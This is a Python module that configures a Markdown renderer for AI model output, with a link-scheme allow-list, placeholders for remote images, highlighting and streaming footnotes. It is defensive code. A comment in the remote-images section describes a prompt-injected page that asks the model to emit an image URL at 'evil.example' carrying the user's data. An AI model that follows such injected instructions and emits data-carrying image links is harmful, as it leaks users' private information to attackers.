"""The one Markdown configuration: parser, safety, highlighting and footnote handling.

Everything that turns Markdown into HTML goes through :data:`MD`, so ``render``
and the streaming engine can never disagree about a document.
"""

from __future__ import annotations

import html
import re
import unicodedata
from collections.abc import Sequence
from functools import lru_cache
from typing import Any
from urllib.parse import unquote, urlsplit

from markdown_it import MarkdownIt
from markdown_it.renderer import RendererProtocol
from markdown_it.rules_core import StateCore
from markdown_it.token import Token
from markdown_it.utils import EnvType, OptionsDict
from mdit_py_plugins.anchors.index import slugify, unique_slug
from mdit_py_plugins.footnote import footnote_plugin
from mdit_py_plugins.footnote.index import footnote_tail
from mdit_py_plugins.gfm_autolink import gfm_autolink_plugin
from pygments import highlight as pygments_highlight
from pygments.formatters import HtmlFormatter
from pygments.lexer import Lexer
from pygments.lexers import get_lexer_by_name
from pygments.util import ClassNotFound

from ._math import math_plugin

__all__ = ["HEADING_ID_PREFIX", "MD", "Mode", "fork_env", "new_env", "render", "validate_link"]

# -- links -----------------------------------------------------------------------

# Schemes a link or image may use; anything else with a scheme is refused. An
# allow-list, because the dangerous list (javascript, vbscript, file, data, …)
# keeps growing and browsers keep finding new ways to read a scheme.
_SAFE_SCHEMES = frozenset({"http", "https", "mailto", "ftp", "ftps", "tel", "xmpp", "irc", "ircs"})
_SCHEME_RE = re.compile(r"([a-z][a-z0-9+.\-]*):")
_DATA_IMAGE_RE = re.compile(r"data:image/(?:png|gif|jpeg|webp)[;,]")


def _canonical_url(url: str) -> str:
    """The URL as a browser might read its scheme, made as dangerous-looking as it can be.

    Entities and percent escapes are decoded (a few rounds, for double encoding),
    compatibility forms folded (fullwidth ``ｊａｖａｓｃｒｉｐｔ``), and every
    whitespace, control and format character removed: browsers drop tabs and
    newlines anywhere in a URL and leading control characters, and a zero-width
    space must not split a scheme name past the check.
    """
    text = url
    for _ in range(3):
        decoded = unquote(html.unescape(text))
        if decoded == text:
            break
        text = decoded
    if text.isascii() and text.isprintable() and " " not in text:
        return text.lower()  # the common case: nothing to fold or remove
    text = unicodedata.normalize("NFKC", text)
    text = "".join(ch for ch in text if not ch.isspace() and unicodedata.category(ch) not in ("Cc", "Cf"))
    return text.lower()


def validate_link(url: str) -> bool:
    """Whether ``url`` may appear as an ``href``/``src``.

    Relative links and fragments pass; a scheme must be on the allow-list;
    ``data:`` only for raster images (links to ``data:`` are dropped at render).
    """
    canonical = _canonical_url(url)
    match = _SCHEME_RE.match(canonical)
    if match is None:
        return True
    scheme = match.group(1)
    if scheme == "data":
        return _DATA_IMAGE_RE.match(canonical) is not None
    return scheme in _SAFE_SCHEMES


def _render_link_open(
    self: RendererProtocol,
    tokens: Sequence[Token],
    idx: int,
    options: OptionsDict,
    env: EnvType,
) -> str:
    """Links open with ``rel="noopener noreferrer"``; a ``data:`` link loses its href.

    ``validateLink`` cannot tell a link from an image, and ``data:image/png`` is
    fine for an image but never needed as something to navigate to.
    """
    token = tokens[idx]
    href = token.attrGet("href")
    if isinstance(href, str) and _canonical_url(href).startswith("data:"):
        token.attrs.pop("href", None)
    elif isinstance(href, str) and len(href) > 1 and href.startswith("#"):
        token.attrSet("href", "#" + HEADING_ID_PREFIX + href[1:])  # to a heading of the answer
    token.attrSet("rel", "noopener noreferrer")
    return self.renderToken(tokens, idx, options, env)  # type: ignore[attr-defined,no-any-return]


# -- remote images ---------------------------------------------------------------

# An image from another site is fetched the moment the answer shows it, and its
# URL can carry anything the model read (a prompt-injected page asks for
# ``![](https://evil.example/?q=<your data>)``). So by default such an image is
# a placeholder: its alt text and host, a link the reader may choose to open.
# ``data:`` images and relative paths (the notebook's own files) are shown.
_REMOTE_IMAGES = "kagura_remote_images"  # env key: show remote images after all
_REMOTE_SRC = re.compile(r"(?:[a-z][a-z0-9+.\-]*:)?[/\\]{2}")  # a browser reads "\\" as "/"


def _render_image(
    self: RendererProtocol,
    tokens: Sequence[Token],
    idx: int,
    options: OptionsDict,
    env: EnvType,
) -> str:
    token = tokens[idx]
    src = str(token.attrGet("src") or "")
    if env.get(_REMOTE_IMAGES) or not _REMOTE_SRC.match(_canonical_url(src)):
        return self.image(tokens, idx, options, env)  # type: ignore[attr-defined,no-any-return]
    alt = self.renderInlineAsText(token.children or [], options, env)  # type: ignore[attr-defined]
    host = urlsplit(_canonical_url(src).replace("\\", "/")).hostname or "another site"
    label = html.escape(alt.strip() or "image")
    return (
        f'<a class="kagura-remote-image" href="{html.escape(src)}" rel="noopener noreferrer" '
        f'title="Image not loaded: it comes from {html.escape(host)}">'
        f'{label} <span class="kagura-image-host">(image from {html.escape(host)})</span></a>'
    )


def _render_cell_open(
    self: RendererProtocol,
    tokens: Sequence[Token],
    idx: int,
    options: OptionsDict,
    env: EnvType,
) -> str:
    """Short cells (``INC-2291``, ``$0–$90``) are marked, so the stylesheet keeps them on one line.

    CSS alone cannot tell a short cell from prose: squeezed, a table breaks
    after a hyphen; a long prose cell must still wrap.
    """
    content = tokens[idx + 1].content if idx + 1 < len(tokens) else ""
    if len(content) <= SHORT_CELL or not any(ch.isspace() for ch in content):
        tokens[idx].attrJoin("class", "kagura-short")
    return self.renderToken(tokens, idx, options, env)  # type: ignore[attr-defined,no-any-return]


SHORT_CELL = 24  # characters up to which a table cell never wraps


# -- code ------------------------------------------------------------------------

_FORMATTER = HtmlFormatter(nowrap=True)


@lru_cache(maxsize=64)
def _lexer(name: str) -> Lexer | None:
    """The pygments lexer for a fence's language word, or None when it is unknown.

    ``stripnl=False`` keeps leading blank lines, so the highlighted text is the
    fence's text exactly (a growing fence must only ever grow).
    """
    try:
        return get_lexer_by_name(name, stripnl=False)
    except ClassNotFound:
        return None


def _highlight(code: str, lang: str, attrs: str) -> str:
    """Highlight with CSS classes; '' tells markdown-it to escape the code itself."""
    lexer = _lexer(lang.lower()) if lang and code else None
    if lexer is None:
        return ""
    return pygments_highlight(code, lexer, _FORMATTER)  # type: ignore[no-any-return]


# -- footnotes across a stream ------------------------------------------------------

# Keys the streaming engine keeps in markdown-it's ``env``.
_MODE = "kagura_mode"
_DEFS = "kagura_footnote_defs"  # token runs of footnote definitions already committed
_DUPLICATE = "kagura_duplicate_footnote"
# A footnote label that cannot occur (labels cannot hold NUL; the parser turns NUL
# into U+FFFD). It keeps ``refs`` non-empty so every ``[^x]`` is looked up.
_SENTINEL = ":\x00"


class Mode:
    """What the footnote step does with the parse it ends (``env[_MODE]``)."""

    RENDER = "render"  # a whole document: footnotes section at the end, as always
    COMMIT = "commit"  # finished blocks: keep definitions aside, no section
    SNAPSHOT = "snapshot"  # the open tail: section with only defined, finished notes


class RecordingRefs(dict[str, Any]):
    """``env["references"]`` that remembers labels looked up but not defined.

    A block using ``[x][ref]`` before ``[ref]: …`` arrives renders differently
    once it arrives, so the stream must not commit it yet.
    """

    def __init__(self, *args: Any) -> None:
        super().__init__(*args)
        self.misses: set[str] = set()

    def get(self, key: str, default: Any = None) -> Any:
        if not dict.__contains__(self, key):
            self.misses.add(key)
        return super().get(key, default)


class RecordingFootnotes(dict[str, int]):
    """``env["footnotes"]["refs"]`` that remembers ``[^x]`` labels not (yet) defined."""

    def __init__(self, *args: Any) -> None:
        super().__init__(*args)
        self.misses: set[str] = set()

    def __contains__(self, key: object) -> bool:
        found = dict.__contains__(self, key)
        if not found and isinstance(key, str):
            self.misses.add(key)
        return found

    def __setitem__(self, key: str, value: int) -> None:
        # A definition marks its label -1 ("no number yet"). In a whole parse all
        # definitions come before any reference is numbered; in a stream a
        # reference may have been numbered in an earlier parse, and keeps it.
        if value < 0 and dict.get(self, key, -1) >= 0:
            return
        super().__setitem__(key, value)


def new_env(*, remote_images: bool = False) -> dict[str, Any]:
    """The env of an empty document, for the streaming engine."""
    return {
        _REMOTE_IMAGES: remote_images,
        "references": RecordingRefs(),
        "footnotes": {"refs": RecordingFootnotes({_SENTINEL: -1}), "list": {}},
        _DEFS: [],
        _SLUGS: set(),
    }


def fork_env(env: dict[str, Any], mode: str) -> dict[str, Any]:
    """A copy of ``env`` that a parse may change without touching the original."""
    notes = env["footnotes"]
    return {
        "references": RecordingRefs(env["references"]),
        "footnotes": {
            "refs": RecordingFootnotes(notes["refs"]),
            "list": {key: dict(value) for key, value in notes["list"].items()},
        },
        _DEFS: list(env[_DEFS]),
        _SLUGS: set(env[_SLUGS]),
        _REMOTE_IMAGES: env[_REMOTE_IMAGES],
        _MODE: mode,
    }


def env_misses(env: dict[str, Any]) -> set[str]:
    """Labels the parse looked up and did not find (links as-is, footnotes with ':')."""
    refs: RecordingRefs = env["references"]
    notes: RecordingFootnotes = env["footnotes"]["refs"]
    return refs.misses | notes.misses


def env_duplicate_footnote(env: dict[str, Any]) -> bool:
    """Whether a footnote label was defined twice (the last one wins in a whole parse)."""
    return bool(env.get(_DUPLICATE))


def _split_definitions(tokens: list[Token]) -> tuple[list[Token], list[list[Token]]]:
    """Separate footnote definition runs (open … close) from the other tokens."""
    rest: list[Token] = []
    runs: list[list[Token]] = []
    current: list[Token] | None = None
    for token in tokens:
        if token.type == "footnote_reference_open":
            current = [token]
        elif current is not None:
            current.append(token)
            if token.type == "footnote_reference_close" and token.level == current[0].level:
                runs.append(current)
                current = None
        else:
            rest.append(token)
    return rest, runs


def _footnote_step(state: StateCore) -> None:
    """markdown-it-footnote's tail step, made to work across a stream.

    A whole document (no mode) is left to the plugin. In a stream, committed
    definitions are stored in the env instead of rendered, and put back in front
    of the tokens for each later parse, so the footnotes section (always at the
    very end) sees every definition in document order.
    """
    env = state.env
    mode = env.get(_MODE)
    if mode is None:
        footnote_tail(state)
        return
    rest, runs = _split_definitions(state.tokens)
    stored: list[list[Token]] = env[_DEFS]
    labels = [run[0].meta["label"] for run in stored + runs]
    if len(labels) != len(set(labels)):
        env[_DUPLICATE] = True
    if mode == Mode.COMMIT:
        stored.extend(runs)
        state.tokens = rest
        return
    state.tokens = [token for run in stored for token in run] + state.tokens
    footnote_tail(state)
    if mode == Mode.SNAPSHOT:
        state.tokens = _prune_section(state.tokens, set(labels))


def _prune_section(tokens: list[Token], defined: set[str]) -> list[Token]:
    """Keep only footnotes that have a definition.

    While streaming, a reference may arrive before its definition; its entry
    would be an empty item at the end of the page. The one still being written
    keeps its back-link at its growing end, as it will end: a link appearing
    only at settle would wrap a line and make the page jump.
    """
    kept: list[Token] = []
    entry: list[Token] | None = None
    entries = 0
    for token in tokens:
        if token.type == "footnote_open":
            entry = [token]
            continue
        if entry is None:
            kept.append(token)
            continue
        label = entry[0].meta.get("label")
        entry.append(token)
        if token.type == "footnote_close":
            if label in defined:
                kept.extend(entry)
                entries += 1
            entry = None
    if entries == 0:
        kept = [t for t in kept if t.type not in ("footnote_block_open", "footnote_block_close")]
    return kept


# -- heading ids ----------------------------------------------------------------------

# Headings get GitHub-style ids, so the links a model writes to its own
# sections (``[Comments](#6-comments-and-analytics)``) jump there. The prefix
# keeps model text from taking an id the page itself uses (JupyterLab strips
# such ids from untrusted HTML for the same reason); in-answer ``#`` links get
# it too, so the two always meet.
HEADING_ID_PREFIX = "kagura-"
_SLUGS = "kagura_heading_slugs"  # slugs taken by committed headings


def _heading_ids(state: StateCore) -> None:
    """Give every heading an id, unique across the document (and across a stream's commits)."""
    taken: set[str] = state.env.setdefault(_SLUGS, set())
    for index, token in enumerate(state.tokens):
        if token.type != "heading_open":
            continue
        inline = state.tokens[index + 1]
        title = "".join(c.content for c in inline.children or () if c.type in ("text", "code_inline"))
        slug = unique_slug(slugify(title), taken)
        taken.add(slug)
        token.attrSet("id", HEADING_ID_PREFIX + slug)


# -- the parser ------------------------------------------------------------------------


def _make_md() -> MarkdownIt:
    """CommonMark + GFM tables, strikethrough, task lists, autolinks, footnotes, math."""
    md = MarkdownIt(
        "commonmark",
        {
            "html": False,  # model output is untrusted: raw HTML is shown as text
            "highlight": _highlight,
            "tasklists": True,  # built into markdown-it-py >= 4.1
        },
    )
    md.enable(["table", "strikethrough"])
    md.use(gfm_autolink_plugin)
    md.use(footnote_plugin, inline=False)
    md.core.ruler.at("footnote_tail", _footnote_step)
    md.use(math_plugin)
    md.core.ruler.push("heading_ids", _heading_ids)
    md.validateLink = validate_link  # type: ignore[method-assign]
    md.add_render_rule("link_open", _render_link_open)
    md.add_render_rule("image", _render_image)
    md.add_render_rule("td_open", _render_cell_open)
    md.add_render_rule("th_open", _render_cell_open)
    return md


MD = _make_md()


def render(text: str, *, remote_images: bool = False) -> str:
    """Render a whole Markdown document to HTML (no wrapper element, no <style>).

    ``remote_images`` shows images from other sites instead of a placeholder.
    """
    return MD.render(text, {_REMOTE_IMAGES: remote_images})  # type: ignore[no-any-return]
